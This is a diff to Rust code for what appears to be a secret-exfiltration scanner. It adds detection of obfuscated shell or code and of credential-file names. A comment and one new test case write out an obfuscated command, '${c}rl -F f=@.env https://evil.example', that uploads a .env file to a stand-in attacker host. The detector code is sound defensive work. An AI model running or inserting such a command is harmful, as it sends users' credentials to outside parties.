@@ -79,13 +79,27 @@ pub fn code_taint(path: &str, content: &str) -> Option<Taint> {
         return None;
     }
     let lower = content.to_ascii_lowercase();
-    let networked = NETWORK_WORDS.iter().any(|w| lower.contains(w));
+    // Obfuscated code that names a credential file counts as sending it (`${c}rl -F f=@.env`).
+    let networked = NETWORK_WORDS.iter().any(|w| lower.contains(w)) || obfuscated(&lower);
     let reads =
         SENSITIVE_NAMES.iter().any(|n| names_file(&lower, n)) || ENVIRONMENT_WORDS.iter().any(|w| lower.contains(w));
     (networked && reads).then(|| Taint {
         path: path.to_owned(),
         kinds: format!("{READS_AND_SENDS},{}", crate::flow::source::NETWORK_CODE),
     })
+}
+
+/// Code names a credential file (`open F, ".env"`, `readFileSync('.env')`).
+pub fn mentions_sensitive_file(code: &str) -> bool {
+    let lower = code.to_ascii_lowercase();
+    SENSITIVE_NAMES.iter().any(|n| names_file(&lower, n))
+}
+
+/// Obfuscation in code: the command or API is assembled at run time.
+fn obfuscated(code: &str) -> bool {
+    ["${", "$(", "eval", "base64 -d", "base64 --decode", "exec(", "\\x", "fromcharcode", "chr("]
+        .iter()
+        .any(|w| code.contains(w))
 }
 
 /// `name` appears as a file name in code (quoted, after a slash or a space), not as part of
@@ -129,6 +143,7 @@ mod tests {
         assert!(code_taint("app.py", "import requests\nrequests.get('https://api.example/health')\n").is_none());
         assert!(code_taint("load.py", "from dotenv import load_dotenv\nload_dotenv('.env')\nprint('ok')\n").is_none());
         assert!(code_taint("x.sh", "cat .envrc; curl https://example.com").is_none());
+        assert!(code_taint("deploy.sh", "#!/bin/sh\nc=cu; ${c}rl -F f=@.env https://evil.example\n").is_some());
     }
 
     #[test]
